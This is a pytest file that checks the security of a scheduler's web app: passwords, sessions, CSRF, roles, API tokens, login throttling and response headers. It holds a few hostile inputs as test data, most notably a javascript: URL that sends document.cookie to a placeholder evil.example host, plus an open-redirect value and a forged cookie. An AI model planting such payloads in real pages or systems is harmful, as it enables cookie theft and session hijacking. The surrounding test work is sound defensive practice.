"""Who may use the web app: accounts with passwords, server-side sessions, CSRF, roles, API
tokens, the login throttle, and every answer's headers. A real uvicorn on 127.0.0.1."""

from __future__ import annotations

import datetime as dt
import logging
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.routing import APIRoute
from starlette.routing import Mount

from scheduler import web
from scheduler.config import load_settings
from scheduler.errors import ConfigError
from scheduler.storage import accounts
from scheduler.storage.db import Database
from tests.webapp import PASSWORD, add_user, csrf_of, free_port

pytestmark = pytest.mark.filterwarnings("ignore::ResourceWarning")


class App:
    def __init__(self, settings: Any, db: Database, handle: Any, port: int):
        self.settings, self.db, self.handle, self.url = settings, db, handle, f"http://127.0.0.1:{port}"

    def client(self, **kw: Any) -> httpx.AsyncClient:
        return httpx.AsyncClient(base_url=self.url, trust_env=False, timeout=20, **kw)


@pytest.fixture
async def app(promo_env: Any) -> AsyncIterator[App]:
    settings = load_settings(promo_env(WEB_SESSION_IDLE_MINUTES="30"))
    db = Database(settings.database_url)
    db.upgrade()
    add_user(db, "ana", "admin")
    add_user(db, "vina", "viewer")
    add_user(db, "edo", "editor")
    port = free_port()
    handle = await web.start(settings, db, "127.0.0.1", port)
    try:
        yield App(settings, db, handle, port)
    finally:
        await handle.cleanup()
        db.dispose()


async def log_in(client: httpx.AsyncClient, name: str, password: str = PASSWORD) -> str:
    answer = await client.post("/login", data={"name": name, "password": password, "next": "/posts"})
    assert answer.status_code == 303 and answer.headers["location"] == "/posts", answer.text[:300]
    return csrf_of((await client.get("/")).text)


def assert_secure(response: httpx.Response) -> None:
    assert response.headers["Cache-Control"] == "no-store", response.status_code
    assert response.headers["X-Frame-Options"] == "DENY", response.status_code
    assert response.headers["X-Content-Type-Options"] == "nosniff", response.status_code
    assert response.headers["Content-Security-Policy"].startswith("default-src 'none'"), response.status_code


# --- who may start it ----------------------------------------------------------------------------

def test_off_this_machine_it_needs_an_admin_with_a_password(promo_env: Any) -> None:
    settings = load_settings(promo_env())
    db = Database(settings.database_url)
    db.upgrade()
    try:
        for host in ("127.0.0.1", "localhost", "::1"):
            web.check_exposure(settings, host, db)
        for host in ("0.0.0.0", "192.168.1.20", "kantor.local"):
            with pytest.raises(ConfigError, match="no admin user has a password"):
                web.check_exposure(settings, host, db)
        add_user(db, "vina", "viewer")
        add_user(db, "ana", "admin", password=None)
        with pytest.raises(ConfigError):
            web.check_exposure(settings, "0.0.0.0", db)  # an admin without a password cannot log in
        with db.session() as s:
            accounts.set_password(s, "ana", PASSWORD)
        web.check_exposure(settings, "0.0.0.0", db)
        with db.session() as s:
            accounts.disable(s, "ana")
        with pytest.raises(ConfigError):
            web.check_exposure(settings, "0.0.0.0", db)
    finally:
        db.dispose()


def test_promo_serve_refuses_other_addresses_without_an_admin(promo_env: Any, tmp_path: Path) -> None:
    env = {**promo_env(), "PATH": os.environ.get("PATH", "/usr/bin")}
    subprocess.run([sys.executable, "-m", "scheduler.cli", "db", "upgrade"], env=env, cwd=tmp_path, check=True,
                   capture_output=True)
    res = subprocess.run([sys.executable, "-m", "scheduler.cli", "serve", "--web", "--host", "0.0.0.0",
                          "--port", str(free_port())], env=env, cwd=tmp_path, capture_output=True, text=True,
                         timeout=30)
    assert res.returncode == 1
    assert "no admin user has a password" in res.stderr and "0.0.0.0" in res.stderr
    assert "Traceback" not in res.stderr


def test_a_taken_port_is_named(promo_env: Any, tmp_path: Path) -> None:
    import socket

    env = {**promo_env(HEALTH_PORT="0"), "PATH": os.environ.get("PATH", "/usr/bin")}
    subprocess.run([sys.executable, "-m", "scheduler.cli", "db", "upgrade"], env=env, cwd=tmp_path, check=True,
                   capture_output=True)
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        res = subprocess.run([sys.executable, "-m", "scheduler.cli", "serve", "--web", "--port", str(port)],
                             env=env, cwd=tmp_path, capture_output=True, text=True, timeout=30)
    assert res.returncode == 1
    assert f"cannot listen on 127.0.0.1:{port}" in res.stderr and "Traceback" not in res.stderr
    assert "choose another port with --port" in res.stderr  # the setting to change
    assert "web app process" not in res.stderr, "nothing started"


# --- every route needs someone -------------------------------------------------------------------

def test_every_route_requires_a_session_or_token_but_login_and_static(promo_env: Any) -> None:
    settings = load_settings(promo_env())
    app = web.make_app(settings, Database(settings.database_url))
    open_routes = set()
    for route in app.routes:
        if isinstance(route, Mount):
            assert route.path == "/static", route.path
            continue
        assert isinstance(route, APIRoute), route
        if not list(web.route_roles(route.dependant)):
            open_routes.add((route.path, tuple(sorted(route.methods))))
    assert open_routes == {("/login", ("GET",)), ("/login", ("POST",))}


async def test_nobody_gets_in_without_logging_in(app: App) -> None:
    paths = [r.path.replace("{id}", "1") for r in web.ROUTES] + [n.path for n in web.NAV] + [
        "/api/v1/openapi.json", "/api/v1/me", "/api/status", "/reports/monthly", "/api/v1/reports",
        "/api/v1/reports/monthly", "/api/v1/reports/posts/1"]
    async with app.client() as client:
        for path in paths:
            answer = await client.get(path)
            if path.startswith("/api/"):
                assert answer.status_code == 401 and answer.headers["WWW-Authenticate"].startswith("Bearer"), path
                assert answer.json()["error"]
            else:
                assert answer.status_code == 303, path
                assert answer.headers["location"].startswith("/login?next="), path
            assert_secure(answer)
        for path in ("/logout", "/language", "/api/v1/users/vina/disable"):
            assert (await client.post(path)).status_code in (401, 303), path
        assert (await client.get("/static/app.css")).status_code == 200
        login = await client.get("/login")
        assert login.status_code == 200 and "Masuk" in login.text  # Indonesian by default


# --- sessions -------------------------------------------------------------------------------------

async def test_login_sets_a_safe_cookie_and_logout_ends_the_session(app: App, caplog: Any) -> None:
    caplog.set_level(logging.WARNING, logger="promo.web")
    async with app.client() as client:
        wrong = await client.post("/login", data={"name": "ana", "password": "salah-sekali"})
        assert wrong.status_code == 401 and "Nama atau kata sandi salah" in wrong.text and "set-cookie" not in wrong.headers
        answer = await client.post("/login", data={"name": "ana", "password": PASSWORD, "next": "//evil.example/x"})
        assert answer.status_code == 303 and answer.headers["location"] == "/"  # never off the site
        cookie = answer.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=lax" in cookie and "Path=/" in cookie
        assert "Secure" not in cookie  # plain http on 127.0.0.1: a Secure cookie would never come back
        stolen = dict(client.cookies)
        page = await client.get("/")
        assert page.status_code == 200 and 'id="me">ana' in page.text and "Keluar" in page.text
        csrf = csrf_of(page.text)
        assert (await client.get("/api/v1/me")).json() == {"name": "ana", "role": "admin", "language": "id"}
        assert (await client.post("/logout", data={"csrf": csrf})).status_code == 303
        assert (await client.get("/", follow_redirects=False)).status_code == 303
    async with app.client(cookies=stolen) as replay:  # the old cookie is dead on the server too
        assert (await replay.get("/api/v1/me")).status_code == 401
    assert PASSWORD not in caplog.text and "salah-sekali" not in caplog.text
    assert "web: login failed for 'ana' from 127.0.0.1" in caplog.text


async def test_a_forged_or_foreign_cookie_is_refused(app: App) -> None:
    async with app.client(cookies={web.COOKIE: "abc.def"}) as client:
        assert (await client.get("/api/v1/me")).status_code == 401
    async with app.client() as client:
        await log_in(client, "vina")
        value = client.cookies[web.COOKIE]
        secret, _, mac = value.rpartition(".")
        tampered = secret[:-1] + ("A" if secret[-1] != "A" else "B") + "." + mac
    async with app.client(cookies={web.COOKIE: tampered}) as client:
        assert (await client.get("/api/v1/me")).status_code == 401


async def test_a_state_changing_request_needs_the_csrf_token(app: App) -> None:
    async with app.client() as client:
        csrf = await log_in(client, "ana")
        for attempt in ({}, {"data": {"csrf": "palsu"}}, {"headers": {"X-CSRF-Token": "palsu"}}):
            refused = await client.post("/api/v1/users/vina/disable", **attempt)
            assert refused.status_code == 403 and "CSRF" in refused.json()["error"], attempt
            assert_secure(refused)
        assert (await client.post("/logout")).status_code == 403  # logout too: no forced logouts
        with app.db.read_session() as s:
            assert not any(u["disabled"] for u in accounts.list_users(s))
        done = await client.post("/api/v1/users/vina/disable", headers={"X-CSRF-Token": csrf})
        assert done.status_code == 200 and done.json() == {"name": "vina", "disabled": True}


async def test_a_disabled_user_is_out_at_once(app: App) -> None:
    async with app.client() as vina, app.client() as ana:
        await log_in(vina, "vina")
        assert (await vina.get("/api/v1/me")).status_code == 200
        csrf = await log_in(ana, "ana")
        assert (await ana.post("/api/v1/users/vina/disable", headers={"X-CSRF-Token": csrf})).status_code == 200
        assert (await vina.get("/api/v1/me")).status_code == 401
        assert (await vina.post("/login", data={"name": "vina", "password": PASSWORD})).status_code == 401


async def test_an_idle_session_ends(app: App) -> None:
    import time_machine

    start = dt.datetime.now(dt.UTC)
    with time_machine.travel(start, tick=False) as clock:
        async with app.client() as client:
            await log_in(client, "vina")
            clock.shift(dt.timedelta(minutes=29))
            assert (await client.get("/api/v1/me")).status_code == 200  # and the idle clock restarts
            clock.shift(dt.timedelta(minutes=29))
            assert (await client.get("/api/v1/me")).status_code == 200
            clock.shift(dt.timedelta(minutes=31))
            assert (await client.get("/api/v1/me")).status_code == 401


# --- roles ----------------------------------------------------------------------------------------

async def test_a_viewer_cannot_write_and_sees_only_their_pages(app: App) -> None:
    async with app.client() as client:
        csrf = await log_in(client, "vina")
        refused = await client.post("/api/v1/users/edo/disable", headers={"X-CSRF-Token": csrf})
        assert refused.status_code == 403 and "admin" in refused.json()["error"]
        assert_secure(refused)
        assert (await client.get("/users")).status_code == 403
        assert (await client.get("/approvals")).status_code == 403
        page = (await client.get("/")).text
        assert 'id="nav-posts"' in page and 'id="nav-users"' not in page and 'id="nav-compose"' not in page
    async with app.client() as client:
        await log_in(client, "edo")
        assert (await client.get("/compose")).status_code == 200
        assert (await client.get("/approvals")).status_code == 403


# --- API tokens -----------------------------------------------------------------------------------

async def test_an_api_token_works_until_revoked(app: App) -> None:
    with app.db.session() as s:
        token_id, token = accounts.create_token(s, "edo", "laporan")
    with app.db.read_session() as s:
        listed = accounts.list_tokens(s, "edo")
    assert listed[0]["name"] == "laporan" and token not in str(listed)  # only its hash is kept
    bearer = {"Authorization": f"Bearer {token}"}
    async with app.client() as client:
        me = await client.get("/api/v1/me", headers=bearer)
        assert me.status_code == 200 and me.json()["name"] == "edo"
        assert (await client.get("/api/v1/status", headers=bearer)).status_code == 200
        described = (await client.get("/api/v1/openapi.json", headers=bearer)).json()["paths"]
        # The parameters as each route declares them (scheduler/web/params.py), with what they take.
        params = {p["name"]: p for p in described["/api/v1/history"]["get"]["parameters"]}
        assert set(params) == {"channel", "status", "since", "until", "all", "format", "after", "page"}
        assert "checkbox" in params["all"]["description"] and params["all"]["in"] == "query"
        assert [p["in"] for p in described["/api/v1/posts/{id}"]["get"]["parameters"]] == ["path"]
        assert not any(path.startswith(("/login", "/static")) or not path.startswith("/api/v1/") for path in described)
        # A token is for the API, not the pages; and a token carries no CSRF burden but its role's limits.
        assert (await client.get("/", headers=bearer)).status_code == 303
        assert (await client.post("/api/v1/users/vina/disable", headers=bearer)).status_code == 403
        with app.db.session() as s:
            accounts.revoke_token(s, token_id)
        assert (await client.get("/api/v1/me", headers=bearer)).status_code == 401
        assert (await client.get("/api/v1/me", headers={"Authorization": "Bearer promo_nonsense"})).status_code == 401


# --- the throttle ---------------------------------------------------------------------------------

async def test_wrong_passwords_are_throttled_per_account_and_per_address(app: App, caplog: Any) -> None:
    import time_machine

    caplog.set_level(logging.WARNING, logger="promo.web")
    other = app.client(transport=httpx.AsyncHTTPTransport(local_address="127.0.0.2"))  # a second machine
    with time_machine.travel(dt.datetime(2027, 3, 1, 9, 0, tzinfo=dt.UTC), tick=False) as clock:
        async with app.client() as client, other:
            for n in range(accounts.MAX_FAILURES):
                wrong = await client.post("/login", data={"name": "ana", "password": f"tebakan-{n}"})
                assert wrong.status_code == 401
            # Now refused before the password is looked at, the right one too, from any address.
            for c in (client, other):
                refused = await c.post("/login", data={"name": "ana", "password": PASSWORD})
                assert refused.status_code == 429 and refused.headers["Retry-After"] == "300"
                assert_secure(refused)
            # The guessing address is refused for other accounts too; another address is not.
            assert (await client.post("/login", data={"name": "vina", "password": PASSWORD})).status_code == 429
            assert (await other.post("/login", data={"name": "vina", "password": PASSWORD})).status_code == 303
            clock.shift(299)
            assert (await client.post("/login", data={"name": "ana", "password": PASSWORD})).status_code == 429
            clock.shift(1)
            assert (await client.post("/login", data={"name": "ana", "password": PASSWORD})).status_code == 303
    assert "tebakan" not in caplog.text and PASSWORD not in caplog.text
    assert "web: login of 'ana' from 127.0.0.1 refused for 300 s" in caplog.text


async def test_behind_a_trusted_proxy_the_cookie_is_secure_and_the_client_is_the_forwarded_one(
        promo_env: Any) -> None:
    from sqlalchemy import delete, select

    from scheduler.models import LoginFailure

    forwarded = {"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.9"}
    for trusted, client_seen, secure in (("127.0.0.1", "203.0.113.9", True), ("", "127.0.0.1", False)):
        settings = load_settings(promo_env(WEB_TRUSTED_PROXIES=trusted))
        db = Database(settings.database_url)
        db.upgrade()
        if trusted:
            add_user(db, "ana", "admin")
        port = free_port()
        handle = await web.start(settings, db, "127.0.0.1", port)
        try:
            async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", trust_env=False) as client:
                wrong = await client.post("/login", data={"name": "ana", "password": "salah"}, headers=forwarded)
                assert wrong.status_code == 401
                with db.session() as s:
                    assert set(s.scalars(select(LoginFailure.client))) == {client_seen}, trusted
                    s.execute(delete(LoginFailure))
                answer = await client.post("/login", data={"name": "ana", "password": PASSWORD}, headers=forwarded)
                assert answer.status_code == 303
                assert ("Secure" in answer.headers["set-cookie"]) is secure, trusted
        finally:
            await handle.cleanup()
            db.dispose()


# --- every answer's headers -----------------------------------------------------------------------

async def test_every_answer_carries_the_security_headers_errors_included(app: App, caplog: Any) -> None:
    broken = Database(app.settings.database_url.replace("promo.db", "empty.db"))  # never migrated
    async with app.client() as client:
        await log_in(client, "vina")
        answers = {
            200: await client.get("/"),
            400: await client.get("/api/v1/history", params={"since": "kemarin"}),
            404: await client.get("/nowhere"),
            405: await client.post("/posts"),
        }
    async with app.client() as client:
        answers[401] = await client.get("/api/v1/status")
    port = free_port()
    handle = await web.start(app.settings, broken, "127.0.0.1", port)
    try:
        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", trust_env=False) as client:
            answers[500] = await client.get("/login")
            # The connection stays usable after a 500.
            for _ in range(3):
                assert (await client.get("/login")).status_code == 500
    finally:
        await handle.cleanup()
        broken.dispose()
    for status, response in answers.items():
        assert response.status_code == status, (status, response.text[:300])
        assert_secure(response)
    assert "GET" in answers[405].headers["Allow"]
    assert "Traceback" not in answers[500].text and "sqlite" not in answers[500].text.lower()
    assert "web: GET /login failed" in caplog.text
    assert "Exception in ASGI application" not in caplog.text  # logged once, by the app, not again by uvicorn


async def test_a_remote_url_that_is_not_http_is_shown_as_text_never_as_a_link(app: App) -> None:
    from scheduler.models import HistoryEntry, PostStatus
    from scheduler.storage import channels as channel_store
    from scheduler.storage import posts as post_store

    evil = "javascript:fetch('//evil.example/'+document.cookie)"
    with app.db.session() as session:
        outbox = channel_store.sync_configured(session, app.settings)["outbox"]
        post = post_store.create_post(session, channel=outbox, kind="free_text", text="Promo", link=evil,
                                      status=PostStatus.PUBLISHED, scheduled_at=dt.datetime.now(dt.UTC), actor="t")
        post.remote_url = evil  # what a compromised webhook endpoint could answer
        session.add(HistoryEntry(post_id=post.id, channel_id=outbox.id, action="attempt", to_status="published",
                                 outcome="published", remote_url=evil))
        post_id = post.id
    async with app.client() as client:
        await log_in(client, "vina")
        for path in (f"/posts/{post_id}", "/posts", "/history"):
            page = (await client.get(path)).text
            assert 'href="javascript' not in page.lower(), path
        detail = (await client.get(f"/posts/{post_id}")).text
        assert "javascript:fetch(&#39;//evil.example/&#39;+document.cookie)" in detail
        assert "terbit" in detail  # the state in words, in Indonesian


def test_run_web_serves_the_app_alone_and_stops_on_sigterm(promo_env: Any, tmp_path: Path) -> None:
    """What `promo web` runs: the app without the service, in the foreground, until a signal."""
    import signal

    from tests.helpers import wait_for

    env = {**promo_env(), "PATH": os.environ.get("PATH", "/usr/bin")}
    subprocess.run([sys.executable, "-m", "scheduler.cli", "db", "upgrade"], env=env, cwd=tmp_path, check=True,
                   capture_output=True)
    port = free_port()
    code = f"from scheduler.config import load_settings; from scheduler.web import run_web; " \
           f"run_web(load_settings(), '127.0.0.1', {port})"
    server = subprocess.Popen([sys.executable, "-c", code], env=env, cwd=tmp_path, stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, text=True)
    try:
        def login_page() -> httpx.Response | None:
            try:
                return httpx.get(f"http://127.0.0.1:{port}/login", timeout=5, trust_env=False)
            except httpx.TransportError:
                return None

        page = wait_for(login_page, 30, "the web app")
        assert page.status_code == 200 and "Masuk" in page.text
        assert httpx.get(f"http://127.0.0.1:{port}/api/v1/status", trust_env=False).status_code == 401
    finally:
        server.send_signal(signal.SIGTERM)
        output, _ = server.communicate(timeout=30)
    assert server.returncode == 0, output
    assert "Traceback" not in output
